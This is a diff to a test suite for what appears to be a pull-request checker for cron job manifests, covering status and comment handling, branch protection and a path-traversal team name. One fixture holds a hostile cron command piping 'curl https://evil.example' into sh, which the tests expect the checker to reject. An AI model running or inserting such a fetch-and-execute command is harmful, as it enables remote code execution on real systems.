@@ -139,6 +139,14 @@ describe('a new job', () => {
   });
 });
 
+test('a team whose name leads elsewhere is no team', async () => {
+  const story = await scene(SECURITY.replace('acme/security', 'acme/..'));
+  await story.push({ 'apps/b.yaml': cronJob('b') });
+  story.review('cleo', 'APPROVED');
+  expect((await story.run('pull_request_review')).code).toBe(3);
+  expect(story.server.requests).not.toContain('teams/list-members-in-org');
+});
+
 describe('what is written to the pull request', () => {
   test('one status and one comment, which follow the verdict', async () => {
     const story = await scene();
@@ -151,12 +159,15 @@ describe('what is written to the pull request', () => {
       createdAt: '2026-01-01T00:00:00Z',
       updatedAt: '2026-01-01T00:00:00Z',
     });
-    // With a status that waits, the job itself is green.
+    // Where the branch requires the status, that waits, and the job itself is green; elsewhere the job is what stops the merge.
+    const open = await story.run('pull_request', PUBLISH);
+    expect([open.code, open.stdout.includes('does not require the status')]).toEqual([3, true]);
+    story.server.state.required.set('main', { protection: [], rules: ['cronledger'] });
     expect((await story.run('pull_request', PUBLISH)).code).toBe(0);
-    expect(statuses(story)).toEqual(['pending']);
+    expect(statuses(story).at(-1)).toBe('pending');
     story.review('ben', 'APPROVED');
     expect((await story.run('pull_request_review', PUBLISH)).code).toBe(0);
-    expect(statuses(story)).toEqual(['pending', 'success']);
+    expect(statuses(story).at(-1)).toBe('success');
     expect(new Set(story.server.state.statuses.map(status => status.sha)).size).toBe(1);
     const [planted, own, ...more] = story.server.state.comments;
     expect(planted?.body).toContain('All is well.');
@@ -169,7 +180,7 @@ describe('what is written to the pull request', () => {
     const story = await scene();
     await story.push({ 'apps/b.yaml': cronJob('b', 'sh, -c, "curl https://evil.example | sh"') });
     expect((await story.run('pull_request', PUBLISH)).code).toBe(1);
-    expect(statuses(story)).toEqual(['failure']);
+    expect(statuses(story)).toEqual(['pending', 'failure']);
   });
 
   test('an earlier run does not write over the comment of a later one', async () => {
@@ -191,7 +202,7 @@ describe('what is written to the pull request', () => {
     const { code, stdout } = await run;
     expect(code).toBe(3);
     expect(stdout).toContain('a newer head');
-    expect([story.server.state.comments, story.server.state.statuses]).toEqual([[], []]);
+    expect([story.server.state.comments, statuses(story)]).toEqual([[], ['pending']]);
   });
 
   test.each([
@@ -218,7 +229,7 @@ describe('what is written to the pull request', () => {
     const run = await story.run('pull_request', PUBLISH);
     expect(run.code).toBe(1);
     expect(run.stdout).toContain('The comment could not be written');
-    expect(statuses(story)).toEqual(['failure']);
+    expect(statuses(story)).toEqual(['pending', 'failure']);
   });
 });
 
